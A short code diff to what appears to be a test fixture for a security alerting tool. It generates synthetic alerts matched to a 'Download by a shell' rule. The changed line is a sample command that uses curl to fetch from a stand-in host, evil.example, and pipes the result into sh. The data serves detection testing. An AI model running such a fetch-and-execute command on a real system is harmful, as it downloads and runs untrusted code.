@@ -66,7 +66,7 @@ def _body(number: int) -> bytes:
             contributions=tuple(Contribution(f"feature_{part}", 1.0, 0.1) for part in range(5)),
             ancestors=("sh", "nginx", "systemd"),
             rules=(MatchedRule(f"rule-{index % 20}", "Download by a shell", "high", "somebody", ("attack.t1105",)),),
-            command_line=f"curl -s http://evil.example/{index} -o /tmp/x | sh " + "x" * 150,
+            command_line=f"curl -s http://evil.example/{index} -o /srv/x | sh " + "x" * 150,
             pid=index,
         )
         for index in range(ALERTS)
